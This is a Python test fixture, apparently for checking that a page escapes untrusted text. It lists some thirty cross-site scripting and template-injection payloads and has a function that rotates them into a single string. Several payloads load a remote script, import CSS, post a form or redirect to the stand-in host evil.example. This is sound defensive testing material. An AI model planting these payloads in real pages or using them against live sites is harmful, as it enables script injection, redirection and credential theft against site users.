"""Words that would like to be more than words: what the world of test_drawn has in every text that people write."""

_MARK = "window.taken=1"
PAYLOADS = (
    f"<script>{_MARK}</script>",
    f"</script><script>{_MARK}</script>",
    f"<ScRiPt src=//evil.example/x.js>{_MARK}</sCrIpT>",
    f"<img src=x onerror={_MARK}>",
    f'<img src="x" onerror="{_MARK}"/>',
    f"<svg onload={_MARK}>",
    f"<svg><script>{_MARK}</script></svg>",
    f"<svg><a xlink:href='javascript:{_MARK}'><text>链接</text></a></svg>",
    f"<math><mi xlink:href='javascript:{_MARK}'>公式</mi></math>",
    f"<body onload={_MARK}>",
    f"<details open ontoggle={_MARK}>详情</details>",
    f"<input autofocus onfocus={_MARK}>",
    f"<iframe srcdoc='<script>parent.{_MARK}</script>'></iframe>",
    f"<a href='javascript:{_MARK}'>点我</a>",
    f"javascript:{_MARK}//",
    f"data:text/html,<script>{_MARK}</script>",
    f'" autofocus onfocus="{_MARK}" x="',
    f"' onmouseover='{_MARK}' x='",
    f"` onmouseover=`{_MARK}",
    f'"></select></textarea></title><script>{_MARK}</script>',
    f"--><script>{_MARK}</script><!--",
    f"{{{{ 7*7 }}}}{{% raw %}}<script>{_MARK}</script>{{% endraw %}}",
    "${window.taken=1}#{window.taken=1}<%= 7*7 %>",
    f"&lt;script&gt;{_MARK}&lt;/script&gt;",
    f"%3Cscript%3E{_MARK}%3C/script%3E",
    f"\\u003cscript\\u003e{_MARK}\\u003c/script\\u003e",
    f'{{"a":"</script><script>{_MARK}</script>"}}',
    f"<style>@import'//evil.example';body{{background:url(javascript:{_MARK})}}</style>",
    "<p style=position:fixed;inset:0;background:red>遮住</p>",
    f"\u202e<script>{_MARK}</script>\u202c\u200b\ufeff",
    f"<form action=//evil.example><button formaction='javascript:{_MARK}'>提交</button></form>",
    "<meta http-equiv=refresh content=0;url=//evil.example><base href=//evil.example>",
)


def all_of_them(turn: int) -> str:
    """Each time another one comes first: what a page cuts off elsewhere, it shows somewhere."""
    at = turn % len(PAYLOADS)
    return " ".join((*PAYLOADS[at:], *PAYLOADS[:at]))
